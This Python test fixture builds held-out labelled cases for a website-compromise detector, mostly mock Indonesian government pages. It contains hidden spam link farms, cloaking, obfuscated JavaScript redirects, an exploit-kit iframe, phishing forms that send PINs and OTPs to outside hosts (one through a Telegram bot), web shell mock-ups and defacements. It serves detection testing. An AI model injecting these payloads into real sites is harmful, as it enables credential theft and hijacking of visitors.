"""The fourth set held out, by another hand than the rules': attacks. Judged once before anybody had looked at it."""

import base64
from collections.abc import Sequence
from urllib.parse import quote

from tests.support.labelled.case import Case
from tests.support.labelled.fourth_frames import LEGIT_JS, adminlte, cards, elementor, joomla4, laravel, nextjs, opensid


def _a(*pairs: tuple[str, str]) -> str:
    return " ".join(f'<a href="https://{host}/">{text}</a>' for host, text in pairs)


def _same(host: str, *texts: str) -> str:
    return "".join(f'<a href="https://{host}/{n}" title="{text}">{text}</a> | ' for n, text in enumerate(texts))


def _codes(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(char):02x}" for char in text)


_JUDOL = _a(
    ("mahkota-win.lol", "mahkota188"),
    ("pesiar77.cc", "PESIAR77"),
    ("naga-cuan.vip", "slot qris"),
    ("toto-merapi.site", "bandar togel"),
    ("zeusx.online", "rtp slot hari ini"),
)
_BRANDS = _a(
    ("kilatmpo.art", "kilat4d"),
    ("ombak88.top", "OMBAK88"),
    ("surya138.ink", "surya138"),
    ("dewi303.pro", "DEWI303"),
    ("rimba777.fun", "rimba777"),
)
_THAI = _a(
    ("pgbet.asia", "สล็อตเว็บตรง"),
    ("pg-th.fun", "บาคาร่าออนไลน์"),
    ("joker-th.me", "สล็อตแตกง่าย เครดิตฟรี"),
    ("lotto-th.vip", "หวยออนไลน์"),
)
_HANZI = _a(
    ("ky-118.com", "开云体育官网"),
    ("bojue.vip", "澳门博彩网站"),
    ("yl-city.net", "百家乐娱乐城"),
    ("w88cn.cc", "真人赌场 注册送彩金"),
)
_VIET = _a(
    ("nhacai88.lat", "nhà cái uy tín"),
    ("taixiu.bet", "tài xỉu online đổi thưởng"),
    ("nohu.win", "nổ hũ"),
    ("xocdia.vn.win", "cá cược bóng đá"),
)
_HANGUL = _a(
    ("totosite.kr.win", "토토사이트 추천"), ("casino-kr.com", "온라인 카지노"), ("baccarat.kr.io", "바카라사이트")
)
_TURK = _a(
    ("deneme.bonus.tr", "deneme bonusu veren siteler"),
    ("bahis10.tr.win", "bahis siteleri"),
    ("casino-tr.com", "casino siteleri"),
    ("slotoyna.net", "slot oyunları"),
)
_RUS = _a(
    ("vulkan-24.ru", "казино вулкан онлайн"),
    ("1xstavka.pro", "ставки на спорт"),
    ("azino777.win", "игровые автоматы на деньги"),
)
_ENG = _a(
    ("bestcasino-uk.com", "best online casino no deposit bonus"),
    ("spins.bet", "free spins slots"),
    ("bookies.win", "sports betting sites"),
    ("blackjack1.net", "online blackjack real money"),
)
_PHARMA = _a(
    ("canadarx.store", "buy cialis online no prescription"),
    ("genericrx.su", "cheap generic viagra 100mg"),
    ("pillsnow.ru", "order tadalafil"),
    ("rx24.top", "ivermectin for sale"),
)
_KUAT = _a(
    ("apotik-herbal.biz", "jual obat kuat pria"),
    ("viagra-asli.id.biz", "viagra asli usa cod"),
    ("vimax.cc", "pembesar alat vital"),
    ("gugurkandungan.net", "jual obat aborsi cytotec"),
)
_ESSAY = _a(
    ("essaypros.com", "write my essay for me cheap"),
    ("paperhelp.us", "buy custom term paper"),
    ("thesis-help.net", "dissertation writing service"),
)
_FILM = _a(
    ("lk21-baru.lol", "nonton film lk21 sub indo"),
    ("anime-stream.cc", "streaming anime sub indo gratis"),
    ("indoxxi.bz", "download film bioskop terbaru full movie"),
    ("drakor.top", "nonton drakor id"),
)
_PORN = _a(
    ("bokepviral.cc", "bokep indo viral"),
    ("jav-hd.tv.lol", "jav uncensored"),
    ("memek.xyz", "video bokep abg"),
    ("xnxx-indo.me", "xnxx terbaru"),
)
_PINJOL = _a(
    ("danakilat.top", "pinjaman online langsung cair tanpa bi checking"),
    ("pinjol24.cc", "pinjol bunga rendah cair 5 menit"),
    ("galbay.site", "jasa hapus data pinjol"),
)
_CRYPTO = _a(
    ("btc-double.org", "double your bitcoin in 24 hours"),
    ("binary-profit.biz", "binary option robot profit"),
    ("usdt-mining.vip", "USDT mining guaranteed daily return"),
)
_REPLICA = _a(
    ("rolexreplica.ru", "replica rolex watches"),
    ("lv-outlet.shop", "cheap louis vuitton handbags outlet"),
    ("nfljerseys.us", "cheap nfl jerseys from china"),
)


def _hid(name: str, trick: str, body: str, **more: object) -> Case:
    return Case(f"fourth-{name}", trick, True, body, held_out=True, **more)  # type: ignore[arg-type]


_HIDDEN = [
    _hid(
        "hid-none",
        "hidden div",
        elementor("Dinas Kesehatan – Kabupaten Ogan Ilir", foot=f'<div style="display:none">{_JUDOL}</div>'),
    ),
    _hid(
        "hid-left",
        "hidden div",
        joomla4("Sekretariat Daerah", foot=f'<div style="position: absolute; left: -11226px;">{_THAI}</div>'),
    ),
    _hid(
        "hid-height",
        "hidden div",
        laravel("Bappeda Litbang", cards() + f'<div style="height:0px;width:0px;overflow:hidden">{_HANZI}</div>'),
    ),
    _hid(
        "hid-font0",
        "hidden div",
        opensid("Desa Tanjung Batu", cards() + f'<p style="font-size:0;line-height:0">{_BRANDS}</p>'),
    ),
    _hid(
        "hid-colour",
        "hidden div",
        adminlte(
            "RSUD Kayuagung",
            f'<div style="background:#fff"><h2>Jadwal Poli</h2><p>Poli Anak Senin</p><p style="color:#ffffff">{_VIET}</p></div>',
        ),
    ),
    _hid(
        "hid-opacity",
        "hidden div",
        elementor("PPID Kabupaten Muba", foot=f'<section style="opacity:0;pointer-events:none">{_TURK}</section>'),
    ),
    _hid(
        "hid-indent",
        "hidden div",
        elementor("Kecamatan Indralaya", foot=f'<h6 style="text-indent:-9999px">{_RUS}</h6>'),
    ),
    _hid(
        "hid-clip",
        "hidden div",
        laravel("JDIH Kabupaten OKU", foot=f'<span style="position:absolute;clip:rect(0 0 0 0)">{_PHARMA}</span>'),
    ),
    _hid(
        "hid-class",
        "hidden div",
        joomla4(
            "Inspektorat Daerah",
            head="<style>.wpx-3{position:fixed;top:-3000px;left:0}</style>",
            foot=f'<div class="wpx-3">{_KUAT}</div>',
        ),
    ),
    _hid("hid-attr", "hidden div", nextjs("Portal Musi Rawas", foot=f"<div hidden>{_PORN}</div>")),
    _hid(
        "hid-marquee",
        "hidden div",
        opensid("Desa Sukaraja", foot=f'<marquee height="1" width="2" scrollamount="5000">{_ENG}</marquee>'),
    ),
    _hid(
        "hid-scale",
        "hidden div",
        elementor("Disdik Sumsel", foot=f'<div style="transform:scale(0);max-height:1px">{_FILM}</div>'),
    ),
    _hid("hid-noscript", "hidden div", laravel("Satu Data Sumsel", foot=f"<noscript>{_JUDOL}{_BRANDS}</noscript>")),
    _hid(
        "hid-js",
        "hidden div",
        elementor(
            "BPBD",
            foot=f'<div id="kw_tbl">{_ESSAY}{_REPLICA}</div><script>document.getElementById("kw_tbl").style.display="none";</script>',
        ),
    ),
    _hid(
        "hid-clippath",
        "hidden div",
        joomla4("Dinas PUPR", foot=f'<ul style="clip-path:inset(100%);white-space:nowrap">{_PINJOL}</ul>'),
    ),
    _hid(
        "hid-crypto",
        "hidden div",
        elementor("Dinas Koperasi", foot=f'<div style="visibility:hidden;position:absolute">{_CRYPTO}</div>'),
    ),
    _hid(
        "hid-korea",
        "hidden div",
        laravel(
            "Dispora",
            head="<style>#foot-lnk{display:none!important}</style>",
            foot=f'<div id="foot-lnk">{_HANGUL}</div>',
        ),
    ),
    _hid(
        "hid-onehost",
        "hidden div",
        elementor(
            "Dinas Sosial",
            foot='<div style="overflow:auto;position:absolute;height:0pt;width:0pt">'
            + _same("harum.or.id.cc", "situs gacor", "gacor malam ini", "depo 10 bonus 10", "server luar", "pola zeus")
            + "</div>",
        ),
    ),
    _hid(
        "hid-textonly",
        "hidden div",
        elementor(
            "Dinas Pariwisata",
            foot='<div style="display:none"><h1>MAHKOTA188 ⚡ Daftar Link Login Resmi Terpercaya No 1</h1><p>MAHKOTA188 adalah tempat bermain terbaik dengan persentase kemenangan tertinggi, deposit 5rb, dan withdraw tanpa batas untuk semua member baru setiap hari.</p></div>',
        ),
    ),
]

_TITLE = [
    _hid("title-slot", "title swap", elementor("PESIAR77: Link Slot Gacor Terbaru Mudah Menang Malam Ini")),
    _hid(
        "title-brand",
        "title swap",
        elementor(
            "OMBAK88 - Login Alternatif OMBAK88 Resmi 2025",
            head='<meta name="description" content="OMBAK88 situs game online terpercaya dengan layanan 24 jam, bonus new member dan proses depo WD kilat."><link rel="amphtml" href="https://ombak88-amp.pages.dev/"><link rel="canonical" href="https://dispora.mubakab.go.id/">',
        ),
    ),
    _hid(
        "title-japan",
        "title swap",
        elementor(
            "【激安】ルイヴィトン 財布 コピー 通販専門店 送料無料",
            head='<meta name="description" content="ブランドコピー 最高級 時計 バッグ 激安販売 公式サイト">',
        ),
    ),
    _hid("title-thai", "title swap", laravel("สล็อตเว็บตรง ไม่ผ่านเอเย่นต์ แตกง่าย 2025")),
    _hid("title-homoglyph", "homoglyphs", joomla4("SLОT GАCОR – Situs Тоtо Маcau Теrреrcауа", cards())),
    _hid("title-fancy", "homoglyphs", elementor("𝗦𝗹𝗼𝘁 𝟴𝟴 » 𝗔𝗴𝗲𝗻 𝗝𝘂𝗱𝗶 𝗢𝗻𝗹𝗶𝗻𝗲 𝗗𝗲𝗽𝗼𝘀𝗶𝘁 𝗣𝘂𝗹𝘀𝗮")),
    _hid("title-leet", "homoglyphs", elementor("S1OT G4COR H4RI INI T0GEL 4D", foot="<p>m4xw1n j4ckp0t</p>")),
    _hid(
        "title-ldjson",
        "title swap",
        elementor(
            "Dinas Perhubungan Kota Prabumulih",
            head='<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"SURYA138 Slot Gacor Maxwin","brand":{"@type":"Brand","name":"SURYA138"},"aggregateRating":{"ratingValue":"5","reviewCount":"88888888"},"offers":{"price":"5000","url":"https://surya138.ink/daftar"}}</script><meta property="og:title" content="SURYA138: Daftar Situs Slot Gacor Maxwin Hari Ini">',
        ),
    ),
    _hid("title-viagra", "title swap", elementor("Buy Viagra Online Without Prescription | Cheap Generic Pills")),
    _hid(
        "title-zerowidth",
        "homoglyphs",
        elementor(
            "Berita Desa",
            foot='<div style="display:none">'
            + _a(
                ("aa.cc", "s\u200bl\u200bo\u200bt g\u200ba\u200bc\u200bo\u200br"),
                ("bb.cc", "j\u00adu\u00addi b\u00ado\u00adla"),
                ("cc.cc", "to\u200dgel hk"),
            )
            + "</div>",
        ),
    ),
]

_HOME = elementor("Dinas Kesehatan – Kabupaten Ogan Ilir")
_CLOAK = [
    _hid(
        "cloak-slot",
        "cloaking",
        _HOME,
        crawled=f"<!doctype html><html lang=id><head><title>ZEUS4D: Bocoran Game Gampang Menang</title></head><body><h1>ZEUS4D</h1><p>Main mudah menang jackpot setiap hari bersama agen resmi.</p>{_BRANDS}</body></html>",
    ),
    _hid(
        "cloak-japan",
        "cloaking",
        _HOME,
        crawled="<!DOCTYPE html><html lang=ja><head><title>シャネル バッグ 中古 - 公式オンラインストア</title></head><body><h1>シャネル バッグ</h1><p>送料無料 当日発送 ¥12,800 カートに入れる 新品未使用 レディース 財布 人気ランキング</p></body></html>",
    ),
    _hid(
        "cloak-redirect",
        "cloaking",
        _HOME,
        crawled="<html><head><title>Loading</title></head><body><p>Please wait</p></body></html>",
        crawled_url="https://amp-ombak88.pages.dev/",
    ),
    _hid("cloak-links", "cloaking", _HOME, crawled=_HOME.replace("</footer>", f"<div>{_VIET}{_ENG}</div></footer>")),
]

_packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1.2=\"3://4-5.6/7\"',8,8,'window|location|href|https|rajazeus|slot|vip|daftar'.split('|'),0,{}))"
_JS = [
    _hid("js-packed", "injected JS", elementor("RSUD Sekayu", head=f"<script>{_packed}</script>")),
    _hid(
        "js-charcode",
        "injected JS",
        joomla4(
            "Dinas Pertanian",
            foot=f"<script>eval(String.fromCharCode({_codes('window.location.replace(' + chr(39) + 'https://kilat4d.top/' + chr(39) + ')')}));</script>",
        ),
    ),
    _hid(
        "js-atob",
        "injected JS",
        laravel(
            "BKPSDM",
            foot=f"<script>eval(atob('{base64.b64encode(b'document.location.href=%22https://togel-merapi.site/reg%22').decode()}'))</script>",
        ),
    ),
    _hid(
        "js-hex",
        "injected JS",
        elementor(
            "DPMPTSP",
            foot=f'<script>var _0x4f1a=["{_hex("https://ombak88.top/?ref=go")}","{_hex("location")}","{_hex("href")}"];window[_0x4f1a[1]][_0x4f1a[2]]=_0x4f1a[0];</script>',
        ),
    ),
    _hid(
        "js-unescape",
        "injected JS",
        elementor(
            "Diskominfo",
            foot=f"<script>document.write(unescape('{quote('<div style=display:none><a href=https://dewi303.pro>slot gacor</a><a href=https://judi.win>judi bola</a></div>')}'))</script>",
        ),
    ),
    _hid(
        "js-referrer",
        "injected JS",
        elementor(
            "Arsip Daerah",
            head="<script>var r=document.referrer;if(/google\\.|bing\\.|yahoo\\./i.test(r)&&/Android|iPhone/i.test(navigator.userAgent)){window.location='https://m.rimba777.fun/?src='+location.host}</script>",
        ),
    ),
    _hid(
        "js-foreign",
        "injected JS",
        elementor(
            "Dinas Perikanan",
            head='<script type="text/javascript" async src="https://cdn-analytic-track.top/j.php?k=9d8f"></script><script>'
            f"(function(){{var s=document.createElement('script');s.src=atob('{base64.b64encode(b'https://statstrack.xyz/jq.js').decode()}');document.head.appendChild(s)}})();</script>",
        ),
    ),
    _hid(
        "js-reverse",
        "injected JS",
        laravel(
            "Disnaker",
            foot="<script>var u='pot.88kabmo//:sptth'.split('').reverse().join('');setTimeout(function(){top.location.href=u},300);</script>",
        ),
    ),
    _hid(
        "js-concat",
        "injected JS",
        elementor(
            "Dinas Kehutanan",
            foot="<script>var a='ht'+'tps:/'+'/go-s'+'lot'+'-gac'+'or.l'+'ol/';if(document.cookie.indexOf('vst=')<0){document.cookie='vst=1';location['re'+'place'](a);}</script>",
        ),
    ),
    _hid(
        "js-write-iframe",
        "injected JS",
        joomla4(
            "Kesbangpol",
            foot='<script>document.write(\'<iframe src="https://judimax.win/frame" style="position:fixed;inset:0;width:100vw;height:100vh;border:0;z-index:999999"></iframe>\');</script>',
        ),
    ),
]

_MOVED = [
    _hid(
        "meta-refresh",
        "meta refresh",
        '<html><head><title>Loading...</title><meta http-equiv="refresh" content="0; url=https://pesiar77.cc/login"></head><body></body></html>',
    ),
    _hid(
        "meta-refresh-frame",
        "meta refresh",
        elementor("Kelurahan Plaju", head='<META HTTP-EQUIV=REFRESH CONTENT="3;URL=//zeusx.online/?aff=22">'),
    ),
    _hid(
        "iframe-full",
        "iframe",
        '<!doctype html><html><head><title>Dinas Perdagangan</title><style>html,body,iframe{margin:0;height:100%;width:100%;border:0}</style></head><body><iframe src="https://mahkota-win.lol/home"></iframe></body></html>',
    ),
    _hid(
        "iframe-tiny",
        "iframe",
        elementor(
            "Puskesmas Pemulutan",
            foot='<iframe src="http://exploit-kit.ru/in.cgi?7" width=1 height=1 frameborder=0 style="visibility:hidden"></iframe>',
        ),
    ),
    _hid("js-location", "redirect", "<script>window.location.href='https://surya138.ink/';</script>"),
]

_PATHS = [
    _hid(
        "robots",
        "robots",
        _HOME,
        paths={
            "/robots.txt": "User-agent: Googlebot\nAllow: /slot-gacor/\nAllow: /wp-content/uploads/togel/\nSitemap: https://dinkes.sumselprov.go.id/slot-gacor/sitemap.xml\n"
        },
    ),
    _hid(
        "sitemap",
        "sitemap spam",
        _HOME,
        paths={
            "/sitemap.xml": '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            + "".join(
                f"<url><loc>https://dinkes.sumselprov.go.id/?p={n}-{w}</loc></url>"
                for n, w in enumerate(
                    (
                        "pragmatic-play-demo",
                        "mahjong-ways-2",
                        "rtp-live",
                        "link-gacor",
                        "slot-thailand",
                        "bandar-bola",
                        "toto-macau",
                    )
                    * 8
                )
            )
            + "</urlset>"
        },
    ),
    _hid(
        "sitemap-japan",
        "sitemap spam",
        _HOME,
        paths={
            "/sitemap.xml": '<?xml version="1.0"?><urlset>'
            + "".join(
                f"<url><loc>https://dinkes.sumselprov.go.id/shop/{quote(w)}-{n}.html</loc></url>"
                for n, w in enumerate(("ブランド財布", "コピー時計", "激安バッグ") * 15)
            )
            + "</urlset>"
        },
    ),
    _hid(
        "deep-doorway",
        "deep path",
        _HOME,
        paths={
            "/assets/": "<html><head><title>Rimba777 : Agen Game Terpercaya</title></head><body><h1>Rimba777</h1><img src=//img.rimba777.fun/banner.webp><p>Bonus new member 100, rollingan 0,8 persen, buyspin termurah.</p><a href=https://rimba777.fun/daftar>DAFTAR</a><a href=https://rimba777.fun/login>LOGIN</a></body></html>"
        },
    ),
    _hid(
        "deep-listing",
        "deep path",
        _HOME,
        paths={
            "/uploads/": '<html><head><title>Index of /uploads</title></head><body><h1>Index of /uploads</h1><pre><a href="slot88/">slot88/</a> 2025-03-01\n<a href="togel-hk/">togel-hk/</a>\n<a href="gacor.html">gacor.html</a>\n<a href="alfa.php">alfa.php</a>\n<a href="wso.php">wso.php</a></pre></body></html>'
        },
    ),
    _hid(
        "deep-shell",
        "web shell",
        _HOME,
        paths={
            "/wp-content/uploads/2024/x.php": "<html><head><title>Mini Shell</title></head><body bgcolor=black text=lime><b>Linux srv01 5.4.0-150-generic x86_64</b><br>User: www-data (33)<br>Disable Functions: NONE<br>Current Dir: /var/www/html/wp-content/uploads<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit value=Upload></form><table><tr><td>Name</td><td>Size</td><td>Permission</td></tr><tr><td>..</td></tr></table>Command: <input name=cmd></body></html>"
        },
    ),
]

_LISTS = [
    _hid("farm-footer", "link farm", elementor("Dinas Arpus", foot="<p>" + _JUDOL + _BRANDS + _THAI + "</p>")),
    _hid(
        "farm-brands",
        "link farm",
        laravel(
            "Dinas Lingkungan Hidup",
            foot="<div class='small'>"
            + _a(
                *(
                    (f"{w}.{t}", w)
                    for w, t in (
                        ("asialive88", "top"),
                        ("batik4d", "com"),
                        ("koko188", "net"),
                        ("unggul303", "org"),
                        ("cakra55", "link"),
                        ("hoki99", "me"),
                        ("angkasa138", "live"),
                        ("jaya777", "cc"),
                    )
                )
            )
            + "</div>",
        ),
    ),
    _hid(
        "comments",
        "comment spam",
        elementor(
            "Buku Tamu – Kecamatan Ilir Timur",
            "<h1>Buku Tamu</h1><ol class=comment-list>"
            + "".join(
                f'<li class="comment"><cite><a rel="external nofollow ugc" href="https://{h}/">{n}</a></cite><p>{t}</p></li>'
                for h, n, t in (
                    ("kilat4d.top", "slot gacor", "Great post, visit slot gacor now"),
                    ("rx.su", "viagra", "buy viagra cheap"),
                    ("judibola.cc", "agen judi bola", "terima kasih infonya, kunjungi agen judi bola terpercaya"),
                    ("bandarq.me", "bandarqq", "domino qq online deposit pulsa"),
                    ("casino.win", "casino", "nice casino bonus"),
                )
            )
            + "</ol>",
        ),
    ),
    _hid("farm-films", "link farm", joomla4("Perpustakaan Daerah", cards() + _FILM + _PORN)),
    _hid(
        "doorway-post",
        "SEO doorway",
        elementor(
            "Cara Menang Bermain Mahjong Ways 2 dengan Pola Scatter Hitam",
            "<h1>Cara Menang Bermain Mahjong Ways 2 dengan Pola Scatter Hitam</h1><p>Mahjong Ways 2 dari PG Soft menjadi permainan favorit para slotter. Gunakan pola spin 30 turbo lalu 20 manual pada jam hoki untuk mendapatkan scatter hitam dan maxwin x1000.</p><p>Daftar di <a href=https://naga-cuan.vip>situs resmi kami</a> dan klaim bonus new member 100.</p>",
        ),
    ),
    _hid(
        "doorway-casino-en",
        "SEO doorway",
        elementor(
            "Top 10 Online Casinos for Real Money 2025",
            "<h1>Top 10 Online Casinos</h1><p>Play roulette, blackjack and slots with a welcome bonus of 200 free spins. No wagering, fast withdrawals.</p><p>"
            + _ENG
            + "</p>",
        ),
    ),
    _hid(
        "doorway-abortion",
        "SEO doorway",
        laravel(
            "Jual Obat Aborsi Ampuh Tuntas WA 0812xxxx",
            "<h1>Klinik Obat Penggugur Kandungan</h1><p>Jual obat aborsi cytotec asli 100% ampuh, bayar di tempat, hubungi WA.</p>",
        ),
    ),
    _hid(
        "doorway-pinjol",
        "SEO doorway",
        opensid(
            "Pinjaman Online Cepat Cair Tanpa BI Checking",
            "<h2>Pinjol legal langsung cair 5 menit modal KTP</h2><p>Ajukan sekarang tanpa BI checking, bunga 0%, semua pasti di acc.</p><a href='https://danakilat.top/apk'>Download APK</a>",
        ),
    ),
]


def _black(title: str, *lines: str, pic: str = "https://i.ibb.co/x1/skull.gif", more: str = "") -> str:
    return f'<html><head><title>{title}</title><style>body{{background:#000;color:#0f0;text-align:center;font-family:Courier}}</style></head><body><center><img src="{pic}" width=300>{"".join(f"<p>{line}</p>" for line in lines)}{more}</center></body></html>'


_DEFACE = [
    _hid(
        "def-en",
        "full deface",
        _black(
            "Hacked By Mr.K1LL3R",
            "Hacked By Mr.K1LL3R",
            "Your security is low, admin!",
            "Greetz: ./Noob - Sc4r3 - All Member",
        ),
    ),
    _hid(
        "def-stamp",
        "full deface",
        _black(
            "Stamped by Zer0Byte", "stamped by Zer0Byte", "just a reminder, patch your box", "greetz to : all friends"
        ),
    ),
    _hid("def-touched", "full deface", _black("Touched By GH05T", "./GH05T was here", "Nothing is secure")),
    _hid(
        "def-turk",
        "full deface",
        _black("Hacklendi", "Bu site KaraKartal tarafından hacklendi!", "Vatan sana canım feda"),
    ),
    _hid("def-arab", "full deface", _black("تم الاختراق", "تم اختراق الموقع بواسطة فريق الصقور", "القدس لنا")),
    _hid("def-port", "full deface", _black("Invadido", "Site invadido por Os Cangaceiros Crew", "Fora corruptos")),
    _hid("def-russian", "full deface", _black("Взломано", "Сайт взломан командой СеверныйВетер")),
    _hid("def-chinese", "full deface", _black("黑客", "此网站已被红客联盟入侵", "中国万岁")),
    _hid(
        "def-malay",
        "full deface",
        _black(
            "Digodam oleh Harimau Cyber",
            "Laman ini telah digodam oleh Harimau Cyber",
            "Ganyang! Jangan ganggu Malaysia",
        ),
    ),
    _hid(
        "def-polite",
        "full deface",
        elementor(
            "Dinas Sosial Kabupaten",
            "<p>Selamat pagi, admin. Mohon maaf, kami masuk ke situs ini tanpa izin. Kami tidak merusak data apa pun, hanya menitipkan berkas ini sebagai tanda bahwa ada celah pada form unggah. Mohon segera diperbaiki. Salam, Pemuda Pesisir Cyber.</p>",
        ),
    ),
    _hid(
        "def-politik",
        "political",
        _black(
            "Suara Rakyat",
            "Wakil rakyat tidur, rakyat lapar!",
            "#IndonesiaGelap #TolakRUU",
            "Kami Anonymous. Kami tidak lupa. Kami tidak memaafkan. Nantikan kami.",
            pic="/anon.jpg",
        ),
    ),
    _hid("def-op", "political", _black("#OpIndonesia", "Free Palestine! Stop genocide", "Expect us. We are legion")),
    _hid(
        "def-gif",
        "image only",
        '<html><head><title>.</title></head><body style="background:#000;margin:0"><img src="https://i.imgur.com/zzQQ.gif" style="width:100%;height:100%"><audio src="https://a.top4top.io/m_1.mp3" autoplay loop></audio></body></html>',
    ),
    _hid(
        "def-image",
        "image only",
        '<html><body bgcolor="black"><center><img src="1337-defaced.jpg"></center></body></html>',
    ),
    _hid(
        "def-embed",
        "full deface",
        '<html><head><title>r00ted</title></head><body bgcolor=black><marquee><font color=red>0wn3d by Indo Ghost Squad</font></marquee><embed src="https://www.youtube.com/v/abc&autoplay=1" width=1 height=1><script>alert("Pwned! Hello admin");</script></body></html>',
    ),
    _hid(
        "def-article",
        "full deface",
        joomla4(
            "Sekretariat Daerah",
            "<div class='item-page'><h2>HaCkEd By CyberMusi404</h2><p>pwned! dont angry admin :p</p></div>" + cards(),
        ),
    ),
    _hid(
        "def-jawa",
        "full deface",
        _black("Nuwun sewu", "Nuwun sewu min, situsmu tak retas", "Ojo korupsi terus! - Wong Cilik Cyber Team"),
    ),
]

_OTHER = [
    _hid(
        "phish-bank",
        "form phishing",
        elementor(
            "Bantuan Sosial Tunai 2025",
            '<h1>Cek Penerima BST</h1><form action="https://bansos-cair.web.app/save.php" method="post"><input name="nama" placeholder="Nama"><input name="norek" placeholder="Nomor rekening"><input type="password" name="pin" placeholder="PIN ATM"><input name="otp" placeholder="Kode OTP"><button>Cairkan</button></form>',
        ),
    ),
    _hid(
        "phish-mail",
        "form phishing",
        '<html><head><title>Webmail Login - Session expired</title></head><body><h2>Sign in to your Microsoft account</h2><form action="https://collect-mail.top/post.php" method=POST><input name=email><input type=password name=passwd><input type=submit value="Sign in"></form></body></html>',
    ),
    _hid(
        "phish-telegram",
        "form phishing",
        '<html><head><title>Undian BRI Festival</title></head><body><h1>Selamat! Klaim hadiah undian Anda</h1><input id=hp placeholder="Nomor HP"><input id=pin type=password placeholder="PIN BRImo"><script>function kirim(){fetch("https://api.telegram.org/bot77:AA/sendMessage?chat_id=1&text="+hp.value+pin.value)}</script><button onclick=kirim()>Klaim</button></body></html>',
    ),
    _hid(
        "shell-home",
        "web shell",
        '<html><head><title>WSO 4.2.6</title></head><body style="background:#444;color:#e1e1e1"><h3>Uname: Linux web 5.15 | User: 33 ( www-data ) | Php: 7.4 Safe mode: OFF</h3><form method=post>Execute: <input name=c><input type=submit value=">>"></form>[ Sec. Info ] [ Files ] [ Console ] [ Sql ] [ Php ] [ String tools ] [ Bruteforce ] [ Network ] [ Self remove ]</body></html>',
    ),
    _hid(
        "parked",
        "parked",
        '<html data-adblockkey="MFww"><head><title>sumselprov-dinas.com</title></head><body><h1>This domain is for sale!</h1><p>Buy this domain. The domain may be for sale by its owner. Related searches: Casino, Loans, Insurance.</p><script src="https://img1.sedoparking.com/js.js"></script></body></html>',
    ),
    _hid(
        "parked-slot",
        "parked",
        '<html><head><title>Expired</title></head><body><p>This domain has expired. Renew it now or <a href="https://slot-naga.vip">main slot di sini</a></p></body></html>',
    ),
    _hid(
        "takeover",
        "parked",
        f"<!doctype html><html lang=id><head><title>Login DEWI303 | Game Terlengkap</title><link rel=stylesheet href=https://cdn.ampproject.org/x.css></head><body><header><img src=https://dewi303.pro/logo.png alt=DEWI303></header><a href=https://dewi303.pro/in>MASUK</a><a href=https://dewi303.pro/reg>DAFTAR</a><p>Permainan terlengkap dengan ribuan pilihan, promo menarik setiap hari, layanan 24 jam. Metode bayar: QRIS, DANA, OVO, pulsa tanpa potongan.</p><script>{LEGIT_JS}</script></body></html>",
    ),
    _hid(
        "popunder",
        "injected JS",
        elementor(
            "Dinas Kebudayaan",
            foot="<script>document.addEventListener('click',function(){window.open('https://naga-cuan.vip/lp','_blank')},{once:true})</script>",
        ),
    ),
    _hid(
        "floating-banner",
        "link farm",
        elementor(
            "DPRD Kabupaten",
            foot='<div style="position:fixed;bottom:0;z-index:99999"><a href="https://rimba777.fun/?ref=dprd" target="_blank"><img src="https://i.postimg.cc/banner-rimba777.gif" alt="rimba777 slot online"></a></div>',
        ),
    ),
]

CASES: Sequence[Case] = [*_HIDDEN, *_TITLE, *_CLOAK, *_JS, *_MOVED, *_PATHS, *_LISTS, *_DEFACE, *_OTHER]
